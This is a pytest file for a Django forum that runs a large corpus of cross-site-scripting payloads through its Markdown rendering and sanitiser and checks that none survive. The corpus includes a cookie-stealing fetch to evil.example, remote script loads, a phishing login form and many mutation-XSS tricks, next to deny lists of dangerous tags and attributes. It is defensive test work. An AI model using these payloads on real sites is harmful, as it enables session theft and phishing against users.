"""Posts are Markdown, rendered and sanitised when saved: a corpus of cross-site-scripting
payloads goes through the real services and the thread page, and none may survive.

The stored HTML is parsed with html.parser (never searched with regular expressions) and held
to what a browser would do with it: only the allow-list's elements and attributes, no event
handlers, no style, no images from anywhere, links only to http, https or mailto, and every
link marked as the user's own. An href a browser reads as relative (no scheme once it has
stripped what the URL standard strips, say `java    script:x`, which it resolves to a path of
the portal) is allowed: it cannot run anything.
"""

import datetime
import re
from html.parser import HTMLParser

import nh3
import pytest
from django.urls import reverse
from django.utils import timezone

from core.text import ALLOWED_ATTRIBUTES, ALLOWED_TAGS
from forums import moderation, services
from forums.models import POST_LINK_REL, Post, PostStatus, Thread, ThreadKind
from tests.factories import ForumFactory, ThreadFactory, UserFactory

pytestmark = pytest.mark.django_db

# (id, payload): the id names the payload when its test fails.
PAYLOADS = [
    # Raw <script>, in many shapes.
    ("script-plain", "<script>alert(1)</script>"),
    ("script-upper-remote-src", "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>"),
    ("script-split-nested", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    ("script-inline", "Hi <script>fetch('//evil.example/?c='+document.cookie)</script> there"),
    ("script-in-emphasis", "**bold <script>alert(1)</script>**"),
    ("script-unclosed", "<script src=//evil.example/x.js"),
    ("script-in-list", "- item\n- <script>alert(1)</script>"),
    # Images: raw, Markdown, remote, javascript:, data:.
    ("img-onerror", "<img src=x onerror=alert(1)>"),
    ("img-onerror-mixed-case", "<IMG SRC=x OnErRoR=alert(1)>"),
    ("img-slashes", "<img/src=x/onerror=alert(1)>"),
    ("img-newline-before-handler", "<img src=x\nonerror=alert(1)>"),
    ("img-backticks", "<img src=`x` onerror=alert(1)>"),
    ("img-javascript-src", '<img src="javascript:alert(1)">'),
    ("img-srcset-remote", '<img srcset="https://evil.example/x.png 1x">'),
    ("picture-source", '<picture><source srcset="https://evil.example/x.png"><img></picture>'),
    ("md-image-remote", "![x](https://evil.example/x.png)"),
    ("md-image-javascript", "![x](javascript:alert(1))"),
    ("md-image-reference", "![x][img]\n\n[img]: https://evil.example/track.gif"),
    ("md-image-title-break", '![x](https://evil.example/x.png "a\\" onerror=\\"alert(1)")'),
    ("md-image-data-svg", "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)"),
    ("md-image-in-link", "[![x](https://evil.example/x.png)](https://ok.example)"),
    # SVG and MathML namespaces.
    ("svg-onload", "<svg onload=alert(1)>"),
    ("svg-script", "<svg><script>alert(1)</script></svg>"),
    ("svg-animate-onbegin", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
    ("svg-xlink-href", '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>'),
    ("svg-style-img", "<svg><style><img src=x onerror=alert(1)></style></svg>"),
    ("svg-foreignobject", '<svg><foreignObject><iframe srcdoc="x"></iframe></foreignObject></svg>'),
    ("svg-cdata", "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>"),
    ("math-mglyph-style", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
    ("math-href", '<math href="javascript:alert(1)">CLICK</math>'),
    ("math-maction", '<math><maction xlink:href="javascript:alert(1)">x</maction></math>'),
    (
        "math-form-mglyph",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    ),
    # Frames, objects, embeds.
    ("iframe-javascript", '<iframe src="javascript:alert(1)"></iframe>'),
    ("iframe-srcdoc", '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>'),
    ("object-data-html", '<object data="data:text/html;base64,PHNjcmlwdD4=">x</object>'),
    ("object-param", "<object><param name=src value=javascript:alert(1)></object>"),
    ("embed-remote", '<embed src="https://evil.example/x.swf">'),
    ("frameset-onload", "<frameset onload=alert(1)>"),
    # Style, as elements and attributes.
    ("style-element", '<style>body{background:url("javascript:alert(1)")}</style>'),
    ("style-import", "<style>@import 'https://evil.example/x.css';</style>"),
    ("style-attribute", '<p style="background:url(javascript:alert(1))">x</p>'),
    ("style-expression", '<div style="width:expression(alert(1))">x</div>'),
    ("style-on-link", '<a href="https://ok.example" style="position:fixed;inset:0">x</a>'),
    ("link-stylesheet", "<link rel=stylesheet href=https://evil.example/x.css>"),
    # Event handlers in many tags and casings.
    ("body-onload", "<body onload=alert(1)>"),
    ("div-onmouseover", '<div onmouseover="alert(1)">hover</div>'),
    ("a-onclick", '<a href="https://ok.example" onclick="alert(1)">x</a>'),
    ("p-onclick-upper", "<p ONCLICK=alert(1)>x</p>"),
    ("p-slash-onclick", "<p/onclick=alert(1)>x</p>"),
    ("details-ontoggle", "<details open ontoggle=alert(1)>"),
    ("input-autofocus-onfocus", "<input autofocus onfocus=alert(1)>"),
    ("video-source-onerror", "<video><source onerror=alert(1)></video>"),
    ("audio-onerror", "<audio src=x onerror=alert(1)>"),
    ("marquee-onstart", "<marquee onstart=alert(1)>x</marquee>"),
    ("dialog-onclose", "<dialog open onclose=alert(1)>x</dialog>"),
    ("td-onmouseover", "<table><tr><td onmouseover=alert(1) align=left>x</td></tr></table>"),
    ("table-background", '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>'),
    ("blockquote-onclick", "<blockquote onclick=alert(1)>quoted</blockquote>"),
    ("abbr-onmouseover", '<abbr title="x" onmouseover=alert(1)>x</abbr>'),
    ("attr-list-paragraph", 'para\n{: onclick="alert(1)" style="color:red" }'),
    ("attr-list-link", "[x](https://ok.example){: onclick=alert(1) target=_blank }"),
    ("attr-list-heading", "## Title {: #x onclick=alert(1) }"),
    ("markdown-in-html", '<div markdown="1" onclick="alert(1)">[x](javascript:alert(1))</div>'),
    # javascript:, vbscript: and data: in Markdown links.
    ("md-link-javascript", "[x](javascript:alert(1))"),
    ("md-link-javascript-mixed-case", "[x](JaVaScRiPt:alert(1))"),
    ("md-link-vbscript", "[x](vbscript:msgbox(1))"),
    ("md-link-data-base64", "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"),
    ("md-link-data-plain", "[x](data:text/html,<script>alert(1)</script>)"),
    ("md-link-angle-brackets", "[x](<javascript:alert(1)>)"),
    ("md-link-leading-spaces", "[x](  javascript:alert(1))"),
    ("md-link-entity-tab", "[x](jav&#x09;ascript:alert(1))"),
    ("md-link-entity-newline", "[x](jav&#x0A;ascript:alert(1))"),
    ("md-link-entity-letter", "[x](&#106;avascript:alert(1))"),
    ("md-link-entity-padded", "[x](&#0000106avascript:alert(1))"),
    ("md-link-entity-colon", "[x](javascript&#58;alert(1))"),
    ("md-link-named-colon", "[x](javascript&colon;alert(1))"),
    ("md-link-newline", "[x](java\nscript:alert(1))"),
    ("md-link-tab", "[x](java\tscript:alert(1))"),
    ("md-link-control-char", "[x](\x01javascript:alert(1))"),
    ("md-link-percent-encoded", "[x](%6Aavascript:alert(1))"),
    ("md-link-title-break", '[x](https://ok.example "\\"><script>alert(1)</script>")'),
    ("md-link-url-break", '[x](https://ok.example" onmouseover="alert(1))'),
    ("md-link-quote-break", '[x]("><script>alert(1)</script>)'),
    ("md-link-nested", "[[x](javascript:alert(1))](https://ok.example)"),
    ("md-link-around-raw-link", '[<a href="javascript:alert(1)">x</a>](https://ok.example)'),
    # Reference links and autolinks.
    ("reference-javascript", "[x][r]\n\n[r]: javascript:alert(1)"),
    ("reference-vbscript-angle", "[x][r]\n\n[r]: <vbscript:msgbox(1)>"),
    ("reference-title-break", '[x][r]\n\n[r]: https://ok.example "\\" onclick=\\"alert(1)"'),
    ("reference-data", "[x]\n\n[x]: data:text/html;base64,PHNjcmlwdD4="),
    ("autolink-javascript", "<javascript:alert(1)>"),
    ("autolink-javascript-mixed-case", "<JavaScript:alert(document.domain)>"),
    ("autolink-data", "<data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>"),
    ("autolink-vbscript", "<vbscript:msgbox(1)>"),
    # Raw <a href> with unsafe schemes and attributes.
    ("a-href-javascript", '<a href="javascript:alert(1)">x</a>'),
    ("a-href-javascript-upper-unquoted", "<A HREF=JAVASCRIPT:alert(1)>x</A>"),
    ("a-href-leading-spaces", '<a href="  javascript:alert(1)">x</a>'),
    ("a-href-entity-tab", '<a href="jav&#x09;ascript:alert(1)">x</a>'),
    (
        "a-href-all-entities",
        '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;ipt:alert(1)">x</a>',
    ),
    ("a-href-newline", '<a href="java\nscript:alert(1)">x</a>'),
    ("a-href-data-svg", '<a href="data:image/svg+xml,<svg onload=alert(1)>">x</a>'),
    ("a-href-vbscript-entity-colon", '<a href="vbscript&#58;msgbox(1)">x</a>'),
    ("a-target-formaction", '<a href="https://ok.example" target="_blank" formaction="x:y">x</a>'),
    ("a-rel-opener", '<a href="https://ok.example" rel="opener" target="_blank">x</a>'),
    ("a-ping", '<a href="https://ok.example" ping="https://evil.example/track">x</a>'),
    # Breaking out of attributes.
    ("attr-break-double", '"><script>alert(1)</script>'),
    ("attr-break-single", "'><img src=x onerror=alert(1)>"),
    ("attr-break-abbr-title", '<abbr title="x"><img src=x onerror=alert(1)>">x</abbr>'),
    ("abbr-definition", '*[HTML]: "><img src=x onerror=alert(1)>\n\nHTML here'),
    # Comments, CDATA, processing instructions.
    ("comment", "<!--<script>alert(1)</script>-->"),
    ("comment-early-close", "x <!-- --><script>alert(1)</script> -->"),
    ("comment-conditional", "<!--[if IE]><script>alert(1)</script><![endif]-->"),
    ("comment-bang-close", "<!-- x --!><img src=x onerror=alert(1)>"),
    ("cdata", "<![CDATA[<script>alert(1)</script>]]>"),
    ("processing-instruction", '<?xml-stylesheet href="javascript:alert(1)"?>'),
    # Forms.
    ("form-action-javascript", '<form action="javascript:alert(1)"><input type=submit></form>'),
    ("button-formaction", '<form><button formaction="javascript:alert(1)">x</button></form>'),
    ("input-formaction", "<input type=submit formaction=javascript:alert(1) value=x>"),
    ("input-image-remote", '<input type="image" src="https://evil.example/x.png">'),
    (
        "form-phishing",
        '<form action="https://evil.example/login" method=post>'
        "<input name=password type=password><button>Sign in</button></form>",
    ),
    ("textarea-script", "<textarea><script>alert(1)</script></textarea>"),
    # Whole-page tricks.
    ("meta-refresh-javascript", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'),
    ("meta-refresh-remote", '<meta http-equiv="refresh" content="0;url=https://evil.example">'),
    ("base-href", '<base href="https://evil.example/">'),
    # Mutation XSS classics.
    ("mxss-noscript-title", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'),
    ("mxss-noembed-title", '<noembed><p title="</noembed><img src=x onerror=alert(1)>">'),
    ("mxss-noframes-title", '<noframes><p title="</noframes><img src=x onerror=alert(1)>">'),
    ("mxss-xmp-title", '<xmp><p title="</xmp><img src=x onerror=alert(1)>">'),
    ("mxss-iframe-title", '<iframe><p title="</iframe><img src=x onerror=alert(1)>">'),
    ("mxss-template", "<template><img src=x onerror=alert(1)></template>"),
    ("mxss-select-style", "<select><style></select><img src=x onerror=alert(1)></style>"),
    ("mxss-table-a", '<table><a href="javascript:alert(1)"><td>x</td></a></table>'),
    # Unicode and fullwidth variants.
    ("fullwidth-script", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e"),
    (
        "fullwidth-scheme",
        "[x](\uff4a\uff41\uff56\uff41\uff53\uff43\uff52\uff49\uff50\uff54:alert(1))",
    ),
    ("fullwidth-colon", "[x](javascript\uff1aalert(1))"),
    ("fullwidth-tag-name", "<\uff53cript>alert(1)</\uff53cript>"),
    ("zero-width-in-scheme", "[x](java\u200bscript:alert(1))"),
    ("line-separator-before-scheme", "[x](\u2028javascript:alert(1))"),
    ("nbsp-before-scheme", '<a href="\u00a0javascript:alert(1)">x</a>'),
    ("unicode-escape-in-js", '<a href="javascript:\\u0061lert(1)">x</a>'),
    ("utf7", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-"),
    # Code spans and blocks: payloads stay as escaped text.
    ("code-span-script", "`<script>alert(1)</script>`"),
    ("code-span-breakout", "`x</code><script>alert(1)</script>`"),
    ("code-block-indented", "    <img src=x onerror=alert(1)>"),
    ("code-block-fenced", "```html\n<svg onload=alert(1)>\n```"),
    ("code-block-fenced-breakout", "```\n</code></pre><script>alert(1)</script>\n```"),
    # Markdown extensions' own constructs carrying payloads.
    ("footnote", "x[^a]\n\n[^a]: <img src=x onerror=alert(1)> [y](javascript:alert(1))"),
    ("md-table", "| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:1) |"),
    ("definition-list", "term\n: <img src=x onerror=alert(1)>"),
]

PAYLOAD_PARAMS = [pytest.param(payload, id=name) for name, payload in PAYLOADS]

# A few of the corpus for the other ways text gets in (thread start, edit, consultations).
SAMPLE_NAMES = [
    "script-plain",
    "img-onerror",
    "svg-onload",
    "md-link-javascript",
    "md-link-entity-tab",
    "autolink-javascript",
    "md-image-remote",
    "mxss-noscript-title",
    "style-attribute",
    "reference-javascript",
]
SAMPLE_PARAMS = [pytest.param(dict(PAYLOADS)[name], id=name) for name in SAMPLE_NAMES]

# What must never be in user HTML, whatever the allow-list becomes.
DANGEROUS_TAGS = {
    "script", "style", "img", "svg", "math", "iframe", "frame", "frameset", "object", "embed",
    "param", "applet", "form", "input", "button", "select", "textarea", "meta", "base", "link",
    "template", "noscript", "noembed", "noframes", "xmp", "video", "audio", "source", "picture",
    "track", "details", "dialog", "marquee", "html", "head", "body", "title", "portal",
}  # fmt: skip
DANGEROUS_ATTRIBUTES = {
    "style", "src", "srcset", "srcdoc", "data", "action", "formaction", "background", "poster",
    "xlink:href", "target", "ping", "id", "name", "class",
}  # fmt: skip
LINK_SCHEMES = {"http", "https", "mailto"}
REL_TOKENS = {"nofollow", "ugc", "noopener"}
SCHEME = re.compile(r"[A-Za-z][A-Za-z0-9+.\-]*:")
# The WHATWG URL parser strips leading and trailing C0 controls and spaces, and removes tabs
# and newlines anywhere: what is left decides the scheme.
C0_OR_SPACE = "".join(chr(code) for code in range(0x21))


def link_scheme(href):
    """The scheme a browser would see in this (already unescaped) href; None when relative."""
    url = href.strip(C0_OR_SPACE)
    for character in "\t\n\r":
        url = url.replace(character, "")
    match = SCHEME.match(url)
    return match.group()[:-1].lower() if match else None


class Elements(HTMLParser):
    """Every element of a document with its attributes; what html.parser finds besides.

    Attribute values come unescaped once, as a browser reads them. Elements inside a
    `<div class="post-body">` (the posts of a thread page) are kept apart as well.
    """

    def __init__(self, html):
        super().__init__(convert_charrefs=True)
        self.elements = []
        self.in_posts = []
        self.other = []  # comments, declarations, processing instructions
        self.text = []
        self.post_bodies = 0
        self._depth = 0
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        element = (tag, attrs)
        self.elements.append(element)
        if self._depth:
            self.in_posts.append(element)
            self._depth += tag == "div"
        elif tag == "div" and "post-body" in (dict(attrs).get("class") or "").split():
            self.post_bodies += 1
            self._depth = 1

    def handle_startendtag(self, tag, attrs):
        self.elements.append((tag, attrs))
        if self._depth:
            self.in_posts.append((tag, attrs))

    def handle_endtag(self, tag):
        if self._depth and tag == "div":
            self._depth -= 1

    def handle_data(self, data):
        self.text.append(data)

    def handle_comment(self, data):
        self.other.append(("comment", data))

    def handle_decl(self, decl):
        self.other.append(("declaration", decl))

    def unknown_decl(self, data):
        self.other.append(("declaration", data))

    def handle_pi(self, data):
        self.other.append(("processing instruction", data))


def problems_in_elements(elements):
    """What in these elements breaks the rules for user HTML; empty when nothing does."""
    found = []
    for tag, attrs in elements:
        if tag not in ALLOWED_TAGS or tag in DANGEROUS_TAGS:
            found.append(f"element <{tag}> is not allowed")
        allowed = ALLOWED_ATTRIBUTES.get(tag, set()) | ({"rel"} if tag == "a" else set())
        for name, value in attrs:
            if name.startswith("on"):
                found.append(f"event handler {name}={value!r} on <{tag}>")
            if name == "style":
                found.append(f"style={value!r} on <{tag}>")
            if name == "src":
                found.append(f"src={value!r} on <{tag}>")
            if name not in allowed or name in DANGEROUS_ATTRIBUTES:
                found.append(f"attribute {name}={value!r} is not allowed on <{tag}>")
            if name == "href":
                scheme = link_scheme(value or "")
                if scheme is not None and scheme not in LINK_SCHEMES:
                    found.append(f"href={value!r} uses the {scheme}: scheme")
        if tag == "a":
            rel = set((dict(attrs).get("rel") or "").split())
            if not rel >= REL_TOKENS or not rel <= REL_TOKENS | {"noreferrer"}:
                found.append(f"<a {attrs}> has rel={rel}, not {POST_LINK_REL!r}")
    return found


def problems(html):
    """What in this user HTML breaks the rules; empty when nothing does."""
    parsed = Elements(html)
    found = problems_in_elements(parsed.elements)
    found += [f"{kind} {data!r} survived" for kind, data in parsed.other]
    # A second pass through a browser-grade parser (html5ever, in nh3) may move elements
    # (nh3 can leave a <p> inside a <p>, which a browser splits) but must bring in no element,
    # attribute or text that was not there: that is how mutation XSS gets through.
    again = Elements(
        nh3.clean(
            html,
            tags=ALLOWED_TAGS,
            attributes=ALLOWED_ATTRIBUTES,
            url_schemes=LINK_SCHEMES,
            link_rel=POST_LINK_REL,
        )
    )
    signatures = {(tag, tuple(attrs)) for tag, attrs in parsed.elements}
    for tag, attrs in again.elements:
        if (tag, tuple(attrs)) not in signatures:
            found.append(f"parsing it again brings in <{tag} {attrs}>")
    if "".join(again.text) != "".join(parsed.text):
        found.append(f"parsing it again changes its text to {''.join(again.text)!r}")
    return found


def assert_harmless(html, payload=""):
    found = problems(html)
    assert not found, f"payload {payload!r} rendered as {html!r}: {found}"


@pytest.fixture(autouse=True)
def no_posting_limits(settings):
    """Post the whole corpus at once: no wait between posts, no hourly cap."""
    settings.FORUM_SECONDS_BETWEEN_POSTS = 0
    settings.FORUM_NEW_ACCOUNT_POSTS_PER_HOUR = 10_000
    settings.FORUM_POSTS_PER_PAGE = 1_000


@pytest.fixture
def author():
    """A confirmed stakeholder past the new-account limits (links in posts allowed)."""
    return UserFactory(date_joined=timezone.now() - datetime.timedelta(days=2))


@pytest.fixture
def facilitator(author):
    forum = ForumFactory(slug="mercury", name="Mercury")
    forum.moderators.add(author)
    return author


@pytest.fixture
def forum():
    return ForumFactory(slug="itombwe", name="Itombwe Nature Reserve")


@pytest.fixture
def thread(forum):
    return ThreadFactory(forum=forum, title="Gold panning in the reserve")


def test_the_corpus_is_large_and_distinct():
    names = [name for name, _ in PAYLOADS]
    payloads = [payload for _, payload in PAYLOADS]
    assert len(PAYLOADS) >= 60
    assert len(set(names)) == len(names)
    assert len(set(payloads)) == len(payloads)


def test_the_allow_list_lets_nothing_dangerous_through():
    assert not ALLOWED_TAGS & DANGEROUS_TAGS
    for tag, names in ALLOWED_ATTRIBUTES.items():
        assert tag in ALLOWED_TAGS
        assert not {name for name in names if name.startswith("on")}, tag
        assert not names & DANGEROUS_ATTRIBUTES, tag
        assert "href" not in names or tag == "a", tag
    assert set(POST_LINK_REL.split()) == REL_TOKENS


@pytest.mark.parametrize(
    ("href", "scheme"),
    [
        ("https://ok.example", "https"),
        ("mailto:a@example.org", "mailto"),
        (" \x01JavaScript:alert(1)", "javascript"),
        ("jav\tas\ncr\ript:alert(1)", "javascript"),
        ("java    script:alert(1)", None),
        ("&#106;avascript:alert(1)", None),
        ("/accounts/", None),
        ("#fn:1", None),
    ],
)
def test_the_checks_see_schemes_as_a_browser_does(href, scheme):
    assert link_scheme(href) == scheme


def test_the_checks_catch_what_they_look_for():
    """The rules must fail on unsafe HTML, or passing them proves nothing."""
    unsafe = [
        "<script>alert(1)</script>",
        '<p onclick="alert(1)">x</p>',
        '<p style="color:red">x</p>',
        '<a href="jav&#x09;ascript:alert(1)" rel="nofollow ugc noopener">x</a>',
        '<a href="https://ok.example" rel="nofollow">x</a>',
        '<a href="https://ok.example" rel="nofollow ugc noopener opener">x</a>',
        '<abbr src="x">x</abbr>',
        "<!-- x -->",
    ]
    for html in unsafe:
        assert problems(html), html


@pytest.mark.parametrize("payload", PAYLOAD_PARAMS)
def test_no_payload_survives_in_a_reply(payload, thread, author):
    post = services.post_reply(author=author, thread=thread, body=payload, language="en")

    post.refresh_from_db()
    assert post.body == payload
    assert post.status == PostStatus.APPROVED
    assert_harmless(post.body_html, payload)


@pytest.mark.parametrize("payload", SAMPLE_PARAMS)
def test_no_payload_survives_in_an_opening_post_or_an_edit(payload, forum, author):
    thread = services.thread_start(
        author=author, forum=forum, title="Payload", body=payload, language="en"
    )
    opening = thread.posts.get()
    assert_harmless(opening.body_html, payload)

    reply = services.post_reply(author=author, thread=thread, body="Harmless.", language="en")
    services.post_edit(editor=author, post=reply, body=payload, language="en")

    reply.refresh_from_db()
    assert reply.body == payload
    assert_harmless(reply.body_html, payload)


@pytest.mark.parametrize("payload", SAMPLE_PARAMS)
def test_no_payload_survives_in_a_consultations_context_or_outcome(payload, facilitator):
    forum = facilitator.moderated_forums.get()
    thread = services.thread_start(
        author=facilitator,
        forum=forum,
        title="Should mercury be banned at the sites?",
        body="Tell us.",
        language="en",
        kind=ThreadKind.CONSULTATION,
        context=payload,
    )
    moderation.consultation_close(facilitator=facilitator, thread=thread, outcome=payload)

    thread.refresh_from_db()
    assert thread.context == thread.outcome == payload
    assert_harmless(thread.context_html, payload)
    assert_harmless(thread.outcome_html, payload)

    thread.context = f"Context: {payload}"
    thread.outcome = f"Outcome: {payload}"
    thread.save()
    thread.refresh_from_db()
    assert_harmless(thread.context_html, payload)
    assert_harmless(thread.outcome_html, payload)


def test_no_payload_survives_on_the_thread_page(client, forum):
    author = UserFactory(
        name="<script>alert(1)</script> Eve",
        organisation='"><img src=x onerror=alert(1)>',
        date_joined=timezone.now() - datetime.timedelta(days=2),
    )
    forum.moderators.add(author)
    thread = ThreadFactory(
        forum=forum,
        author=author,
        title="Gold <script>alert(1)</script> panning",
        kind=ThreadKind.CONSULTATION,
        context="Context: <img src=x onerror=alert(1)> [x](javascript:alert(1))",
        outcome='Outcome: <svg onload=alert(1)> <a href="jav&#x09;ascript:alert(1)">x</a>',
        closed_at=timezone.now(),
        closed_by=author,
    )
    for _, payload in PAYLOADS:
        services.post_reply(author=author, thread=thread, body=payload, language="en")
    posts = list(Post.objects.filter(thread=thread))
    assert len(posts) == len(PAYLOADS) + 1

    response = client.get(reverse("forums:thread", kwargs={"forum": forum.slug, "pk": thread.pk}))

    assert response.status_code == 200
    page = response.content.decode()
    for post in posts:
        assert f'id="post-{post.pk}"' in page
        assert post.body_html in page
    thread = Thread.objects.get(pk=thread.pk)
    assert thread.context_html in page
    assert thread.outcome_html in page

    parsed = Elements(page)
    assert parsed.post_bodies == len(posts)
    assert sum(tag == "a" for tag, _ in parsed.in_posts) > 10
    assert not problems_in_elements(parsed.in_posts)
    # The page's own scripts, if any, are files, carry the nonce or are JSON-LD data: `<script`
    # occurs nowhere else.
    scripts = [dict(attrs) for tag, attrs in parsed.elements if tag == "script"]
    data = "application/ld+json"
    assert all(s.get("src") or s.get("nonce") or s.get("type") == data for s in scripts), scripts
    assert page.lower().count("<script") == len(scripts)
    for tag, attrs in parsed.elements:
        for name, value in attrs:
            assert not name.startswith("on"), (tag, name, value)
            if name in {"href", "src", "action", "formaction"}:
                assert link_scheme(value or "") in LINK_SCHEMES | {None}, (tag, name, value)
            if name == "src":
                assert value.startswith("/"), (tag, name, value)  # nothing from other hosts
        assert tag not in {"iframe", "object", "embed", "base", "math"}, tag
        assert not (tag == "meta" and dict(attrs).get("http-equiv")), attrs
    # The page's drawings are the portal's own: the header search's magnifier and the dialogue
    # balance's strip; none comes from a post.
    drawings = [dict(attrs).get("class") for tag, attrs in parsed.elements if tag == "svg"]
    assert drawings == ["site-search__icon", "balance-strip"], drawings
    assert not any(tag in {"svg", "rect", "use", "image"} for tag, _ in parsed.in_posts)


def test_legitimate_markdown_survives(thread, author):
    body = (
        "We use *less* mercury and **retorts** now.\n\n"
        "- sluice boxes\n- retorts\n\n"
        "1. first\n2. second\n\n"
        "> The park rangers said so.\n\n"
        "See [the report](https://example.org/report) or <https://example.org/maps>.\n\n"
        "Write to <rangers@example.org>.\n\n"
        "```\n<script>alert(1)</script>\n```\n\n"
        "Use `<b>` for bold."
    )

    post = services.post_reply(author=author, thread=thread, body=body, language="en")

    html = post.body_html
    assert_harmless(html, body)
    assert "<em>less</em>" in html
    assert "<strong>retorts</strong>" in html
    assert "<ul>\n<li>sluice boxes</li>\n<li>retorts</li>\n</ul>" in html
    assert "<ol>\n<li>first</li>\n<li>second</li>\n</ol>" in html
    assert "<blockquote>\n<p>The park rangers said so.</p>\n</blockquote>" in html
    rel = f'rel="{POST_LINK_REL}"'
    assert f'<a href="https://example.org/report" {rel}>the report</a>' in html
    assert f'<a href="https://example.org/maps" {rel}>https://example.org/maps</a>' in html
    assert f'<a href="mailto:rangers@example.org" {rel}>rangers@example.org</a>' in html
    assert "<pre><code>&lt;script&gt;alert(1)&lt;/script&gt;\n</code></pre>" in html
    assert "<code>&lt;b&gt;</code>" in html


def test_quoting_a_post_keeps_it_a_quote(client, thread, author):
    """The quote a reply form starts with (the quoted author's name in Markdown, then the
    post) renders as a blockquote, payloads and all."""
    eve = UserFactory(
        name="<img src=x onerror=alert(1)> [Eve](javascript:alert(1))",
        date_joined=timezone.now() - datetime.timedelta(days=2),
    )
    quoted = services.post_reply(
        author=eve, thread=thread, body="Mercury <script>alert(1)</script> kills.", language="en"
    )
    client.force_login(author)

    response = client.get(
        reverse("forums:reply", kwargs={"forum": thread.forum.slug, "pk": thread.pk}),
        {"quote": quoted.pk},
    )

    assert response.status_code == 200
    initial = response.context["form"].initial["body"]
    assert initial.lstrip().startswith(">")
    reply = services.post_reply(
        author=author, thread=thread, body=f"{initial}\n\nAgreed.", language="en"
    )
    assert "<blockquote>" in reply.body_html
    assert_harmless(reply.body_html, reply.body)
